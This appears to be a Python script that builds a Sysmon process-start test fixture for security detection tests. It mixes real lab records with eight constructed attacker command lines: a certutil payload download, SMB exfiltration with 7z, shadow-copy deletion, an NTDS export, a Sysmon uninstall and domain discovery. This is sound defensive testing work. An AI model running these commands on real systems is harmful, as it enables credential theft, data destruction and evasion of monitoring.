#!/usr/bin/env python3
"""Build sysmon_process_starts.json, the attack data of the corpus detection
tests in tests/golden/tstats/corpus_detections*.t.

    SHARED=../shared python3 tests/data/tstats/make_sysmon_process_starts.py

1. Selected: every Sysmon process start (EventID 1) of the OTRF Security
   Datasets' Windows host captures under $SHARED/data/otrf-security-datasets/
   atomic/windows/ (33 records of 10 lab scenarios: PsExec, reg save of the
   LSA secrets, esentutl SAM copy, rundll32 comsvcs MiniDump, bitsadmin,
   mshta, netsh firewall, cmstp, schtasks, sc config), unchanged, in file
   order.
2. Constructed: one record per entry of CONSTRUCTED below, each a copy of the
   real PsExec start of cmd_psexec_lsa_secrets_dump (WORKSTATION5, user
   WORKSTATION5\\wardog, parent cmd.exe) with the process replaced
   (Image, CommandLine, OriginalFileName), a new ProcessId/ProcessGuid and a
   time one minute apart; its rendered Message and the PsExec-specific
   fields (Hashes, Description, Product, Company, FileVersion) are dropped
   because they would contradict the new process.
"""
import glob
import json
import os

SHARED = os.environ.get("SHARED", "../shared")
HERE = os.path.dirname(os.path.abspath(__file__))
SRC = os.path.join(SHARED, "data/otrf-security-datasets/atomic/windows")
TEMPLATE_FILE = "credential_access/host/cmd_psexec_lsa_secrets_dump_2020-10-1903305471.json"

# (Image, CommandLine, OriginalFileName): each for one corpus detection.
CONSTRUCTED = [
    ("C:\\Program Files\\7-Zip\\7z.exe",
     "7z.exe a -tzip \\\\10.0.2.15\\C$\\Users\\Public\\docs.zip C:\\Users\\wardog\\Documents",
     "7z.exe"),  # 7zip_commandline_to_smb_share_path
    ("C:\\Windows\\System32\\certutil.exe",
     "certutil.exe -urlcache -split -f http://10.0.2.15/payload.exe C:\\Users\\Public\\payload.exe",
     "CertUtil.exe"),  # certutil_download_with_urlcache_and_split_arguments
    ("C:\\Windows\\System32\\wbem\\WMIC.exe",
     "wmic.exe product where name=\"Sysmon\" call uninstall /nointeractive",
     "wmic.exe"),  # wmic_noninteractive_app_uninstallation
    ("C:\\Windows\\System32\\net.exe", "net.exe localgroup administrators",
     "net.exe"),  # net_localgroup_discovery
    ("C:\\Windows\\System32\\nslookup.exe",
     "nslookup.exe -querytype=SRV _ldap._tcp.dc._msdcs.theshire.local",
     "nslookup.exe"),  # windows_system_discovery_using_ldap_nslookup
    ("C:\\Windows\\System32\\vssadmin.exe", "vssadmin.exe delete shadows /all /quiet",
     "VSSADMIN.EXE"),  # deleting_shadow_copies
    ("C:\\Windows\\System32\\ntdsutil.exe",
     "ntdsutil.exe \"ac i ntds\" \"ifm\" \"create full C:\\Temp\\ntds\" q q",
     "ntdsutil.exe"),  # ntdsutil_export_ntds
    ("C:\\Windows\\System32\\net.exe", "net.exe group \"Domain Admins\" /domain",
     "net.exe"),  # domain_group_discovery_with_net
]

DROP = ("Message", "Hashes", "Description", "Product", "Company", "FileVersion")


def records(path):
    with open(path) as f:
        for line in f:
            line = line.strip()
            if line:
                yield line, json.loads(line)


def main():
    out = []
    template = None
    for path in sorted(glob.glob(os.path.join(SRC, "**/*.json"), recursive=True)):
        for line, e in records(path):
            if e.get("EventID") == 1 and e.get("Channel") == "Microsoft-Windows-Sysmon/Operational":
                out.append(line)
                if path.endswith(TEMPLATE_FILE) and template is None:
                    template = e
    for i, (image, cmdline, ofn) in enumerate(CONSTRUCTED):
        e = {k: v for k, v in template.items() if k not in DROP}
        minute = 40 + i
        e["UtcTime"] = "2020-10-19 07:%02d:00.000" % minute
        e["TimeCreated"] = "2020-10-19 03:%02d:00.000" % minute
        e["Image"] = image
        e["CommandLine"] = cmdline
        e["OriginalFileName"] = ofn
        e["ProcessId"] = str(9000 + i)
        e["ProcessGuid"] = "{39e4a257-0000-0000-%04d-000000000700}" % i
        out.append(json.dumps(e, separators=(",", ":")))
    with open(os.path.join(HERE, "sysmon_process_starts.json"), "w") as f:
        f.write("\n".join(out) + "\n")
    print(len(out), "records")


if __name__ == "__main__":
    main()
